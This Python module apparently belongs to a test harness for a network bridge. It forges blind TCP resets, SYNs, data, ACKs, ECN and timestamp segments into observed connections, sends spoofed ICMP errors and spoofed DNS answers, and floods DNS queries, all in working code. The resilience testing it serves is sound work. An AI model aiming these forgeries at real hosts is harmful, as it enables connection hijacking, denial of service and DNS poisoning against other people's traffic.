"""Lies about connections of others, told by whoever knows addresses and ports and guesses the numbers; and about names.

Who the victims are is read from /proc/net/tcp: every connection between here and corp. A true attacker would have to
guess the port as well, so this is the stronger one.
"""

from __future__ import annotations

import socket
import struct
import time
from dataclasses import dataclass
from pathlib import Path
from typing import ClassVar

from .attack import Attack
from .floods import Flood
from .raw import (
    ACK,
    CWR,
    ECE,
    ICMP,
    ICMPV6,
    PACKET_OUTGOING,
    PSH,
    RST,
    SYN,
    TCP,
    UDP,
    Spoof,
    icmp,
    ip,
    packed,
    tcp_packet,
    udp,
    udp_packet,
)  # fmt: skip

LOOK_EVERY = 0.2
"""Seconds between two looks at who is connected, and at their numbers."""
LOOK = 0.01
"""Seconds that a look at numbers takes at most."""
IN_STEPS = range(9100, 9108)
"""Ports of an honest user who never sends a small odd number of bytes (`bench/load_probe`)."""
HARD, SOFT = (0, 1, 2, 3, 4, 5, 13), (0, 1, 3, 4)
"""Codes of unreachable: IPv4's and IPv6's."""


@dataclass
class Victim:
    """A connection of somebody else's."""

    here: bytes
    there: bytes
    ports: tuple[int, int]
    """Here and there."""
    next: int = 0
    """What the end here would send next, some moments ago; 0: not seen."""
    acked: int = 0


def connected(there: set[bytes]) -> list[Victim]:
    """Everything established between here and these hosts."""
    found = []
    for name in ("tcp", "tcp6"):
        for line in Path(f"/proc/self/net/{name}").read_text().splitlines()[1:]:
            words = line.split()
            if words[3] != "01":
                continue
            (here, port), (other, other_port) = (end.split(":") for end in words[1:3])
            ends = [unhexed(here), unhexed(other)]
            if ends[1] in there:
                found.append(Victim(ends[0], ends[1], (int(port, 16), int(other_port, 16))))
    return found


def unhexed(text: str) -> bytes:
    """An address as /proc prints it: words in the machine's own order."""
    return b"".join(struct.pack("=I", int(text[at : at + 8], 16)) for at in range(0, len(text), 8))


class Lies(Flood):
    """One lie a turn, about each victim in turn."""

    numbers: ClassVar[bool] = True
    """Whether the victims' numbers are looked at."""

    def prepare(self) -> None:
        super().prepare()
        self.victims: list[Victim] = []
        self._looked = 0.0
        self.tick(time.monotonic())

    def tick(self, now: float) -> None:
        if now - self._looked < LOOK_EVERY:
            return
        self._looked = now
        known = {(it.here, it.ports): it for it in self.victims}
        fresh = connected({self.corp(4), self.corp(6)})
        self.victims = [known.get((it.here, it.ports), it) for it in fresh]
        self.facts["victims"] = max(self.facts.get("victims", 0), len(self.victims))
        if self.numbers and self.victims:
            self._look()

    def _look(self) -> None:
        """See what passes the TUN for a moment: where the connections stand."""
        by_ports = {(it.here, *it.ports): it for it in self.victims}
        deadline = time.monotonic() + LOOK
        with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(3)) as ear:
            ear.bind((self.place.tun, 3))
            while (left := deadline - time.monotonic()) > 0:
                ear.settimeout(left)
                try:
                    data, (_, _, kind, *_) = ear.recvfrom(96)
                except TimeoutError:
                    return
                if kind != PACKET_OUTGOING or len(data) < 40:
                    continue
                at = 20 if data[0] >> 4 == 4 else 40
                here = data[12:16] if at == 20 else data[8:24]
                if data[9 if at == 20 else 6] != TCP or len(data) < at + 20:
                    continue
                sport, dport, seq, ack, offset, _flags = struct.unpack_from("!HHIIBB", data, at)
                victim = by_ports.get((here, sport, dport))
                if victim is not None:
                    total = struct.unpack_from("!H", data, 2 if at == 20 else 4)[0]
                    length = total - (at if at == 20 else 0) - (offset >> 4 << 2)
                    victim.next, victim.acked = (seq + max(length, 0)) & 0xFFFFFFFF, ack

    def turn(self, number: int) -> None:
        if self.victims:
            self.wire.send(self.lie(self.victims[number % len(self.victims)], number // len(self.victims)))

    def lie(self, victim: Victim, number: int) -> bytes:
        raise NotImplementedError

    def guess(self, victim: Victim, number: int) -> int:
        """A sequence number: anywhere, or, for who moves in known steps, within the window and never the right one."""
        if number % 2 and victim.next and victim.ports[1] in IN_STEPS:
            return victim.next + 1 + 2 * self.random.randrange(16)
        return self.random.getrandbits(32)


class BlindResets(Lies):
    name = "blind-resets"
    what = "resets into open connections: addresses and ports right, the number anywhere or within the window"

    def lie(self, victim: Victim, number: int) -> bytes:
        flags = RST if number % 4 < 2 else RST | ACK
        ack = self.random.getrandbits(32)
        return tcp_packet(victim.here, victim.there, victim.ports, self.guess(victim, number), ack, flags)


class BlindSyns(Lies):
    name = "blind-syns"
    what = "SYNs and SYN-ACKs into open connections, each of which wants a challenge"

    def lie(self, victim: Victim, number: int) -> bytes:
        flags = SYN if number % 4 < 2 else SYN | ACK
        seq, ack = self.guess(victim, number), self.random.getrandbits(32)
        return tcp_packet(victim.here, victim.there, victim.ports, seq, ack, flags)


class BlindData(Lies):
    name = "blind-data"
    what = "data into open connections, in the window with impossible acknowledgements, or outside of it"

    def lie(self, victim: Victim, number: int) -> bytes:
        if number % 2:
            seq, ack = victim.next + self.random.randrange(40_000), victim.acked + (1 << 30) + number
        else:
            seq, ack = victim.next + (1 << 31) + number, victim.acked
        data = b"forged " * (1 + number % 150)
        return tcp_packet(victim.here, victim.there, victim.ports, seq, ack, PSH | ACK, data=data)


class BlindAcks(Lies):
    name = "blind-acks"
    what = "empty acknowledgements of open connections, of what was never sent or was acknowledged long ago"

    def lie(self, victim: Victim, number: int) -> bytes:
        ack = victim.acked + ((1 << 30) if number % 2 else -(1 << 29)) + number
        return tcp_packet(victim.here, victim.there, victim.ports, victim.next, ack, ACK, window=number % 3)


class Marks(Lies):
    name = "ecn-nonsense"
    what = "segments into open connections with every mix of ECE, CWR and congestion marks that nobody agreed on"

    def lie(self, victim: Victim, number: int) -> bytes:
        flags = ACK | (ECE if number & 1 else 0) | (CWR if number & 2 else 0)
        seq, ack = victim.next - 1, victim.acked - self.random.randrange(1 << 20)
        return tcp_packet(victim.here, victim.there, victim.ports, seq, ack, flags, tos=number >> 2 & 3)


class Stamps(Lies):
    name = "timestamps"
    what = "segments into open connections with timestamps of any age (the PAWS attack) and options that lie"

    def lie(self, victim: Victim, number: int) -> bytes:
        stamp = b"\1\1\x08\x0a" + self.random.randbytes(8)
        lies = (stamp, stamp + stamp, b"\x08\x02\1\1", b"\5\xff\1\1", b"\2\4\0\0", b"\3\3\xff\0", b"\x08\x0a\xff\xff")
        seq = victim.next + (number % 3 - 1) * (1 << 30)
        options = lies[number % len(lies)]
        return tcp_packet(victim.here, victim.there, victim.ports, seq, victim.acked + (1 << 30), ACK, options=options)


class Errors(Lies):
    """ICMP errors sent to corp by way of the bridge, about what corp (that is the bridge) sent here."""

    def kind(self, version: int, number: int) -> tuple[int, int, int]:
        """Type, code and the word behind the checksum."""
        raise NotImplementedError

    def lie(self, victim: Victim, number: int) -> bytes:
        version = 4 if len(victim.here) == 4 else 6
        here, there = victim.here, victim.there
        kind, code, word = self.kind(version, number)
        seq = victim.acked - self.random.randrange(1 << 16) if number % 2 else self.random.getrandbits(32)
        quoted = tcp_packet(there, here, victim.ports[::-1], seq, victim.next, ACK, data=bytes(8))
        if number % 8 == 7:
            quoted = udp_packet(there, here, (53, victim.ports[0]), bytes(8))
        return ip(here, there, ICMP if version == 4 else ICMPV6, icmp(here, there, kind, code, word, quoted[:64]))


class ForgedErrors(Errors):
    name = "icmp-errors"
    what = "forged unreachable of every code, time exceeded, parameter problem, source quench, redirect"

    def kind(self, version: int, number: int) -> tuple[int, int, int]:
        if version == 4:
            kinds = [(3, code, 0) for code in HARD if code != 4] + [(11, 0, 0), (12, 0, 0), (4, 0, 0), (5, 1, 0)]
        else:
            kinds = [(1, code, 0) for code in SOFT] + [(3, 0, 0), (4, 0, 6), (137, 0, 0)]
        return kinds[number % len(kinds)]


class ForgedTooBig(Errors):
    name = "icmp-too-big"
    what = "forged packet too big and fragmentation needed, with MTUs from 0 to 65,535"

    def kind(self, version: int, number: int) -> tuple[int, int, int]:
        mtu = (0, 1, 48, 68, 296, 552, 576, 1279, 1280, 1400, 65_535)[number % 11]
        return (3, 4, mtu) if version == 4 else (2, 0, mtu)


# --- names ------------------------------------------------------------------------------------------------------------


def question(number: int, name: str, kind: int = 1) -> bytes:
    """A DNS question; `number` is its id."""
    labels = b"".join(bytes((len(label),)) + label.encode() for label in name.split(".")) + b"\0"
    return struct.pack("!6H", number & 0xFFFF, 0x0100, 1, 0, 0, 0) + labels + struct.pack("!2H", kind, 1)


def answer(number: int, name: str, address: bytes) -> bytes:
    """The answer to it: this IPv4 address, for a day."""
    head = struct.pack("!6H", number & 0xFFFF, 0x8180, 1, 1, 0, 0)
    return head + question(number, name)[12:] + b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 86_400, 4) + address


EVIL = packed("10.99.0.66")


class ForgedToTheStub(Attack):
    name = "dns-forged-stub"
    what = "answers to the stub's questions as if from the bridge, guessing id and port, by a host beside it"

    def prepare(self) -> None:
        self.spoof: Spoof = self.mouth(Spoof())

    def turn(self, number: int) -> None:
        gateway, own = packed(self.place.gateway[4]), self.own(4)
        name = f"n{number % 1000}.many.corp.test"
        ports = 53, 32_768 + self.random.randrange(28_232)
        datagram = udp(gateway, own, ports, answer(self.random.getrandbits(16), name, EVIL))
        self.spoof.send(ip(gateway, own, UDP, datagram))


class Questions(Flood):
    name = "dns-flood"
    what = "questions for ever new names, malformed ones among them, to the bridge's DNS service"
    rate = 2000

    def packet(self, number: int) -> bytes:
        version = 4 if number % 2 else 6
        name = f"{self.random.getrandbits(60):x}.many.corp.test"
        asked = question(self.random.getrandbits(16), name, (1, 28, 16, 255)[number % 4])
        if number % 10 == 0:
            asked = asked[: self.random.randrange(len(asked))] + b"\xc0\x0c" * (number % 3)
        ports = 1024 + number * 31 % 60_000, 53
        return udp_packet(self.own(version), packed(self.place.gateway[version]), ports, asked)


FORGERIES: list[type[Attack]] = [
    BlindResets, BlindSyns, BlindData, BlindAcks, Marks, Stamps, ForgedErrors, ForgedTooBig, ForgedToTheStub, Questions,
]  # fmt: skip
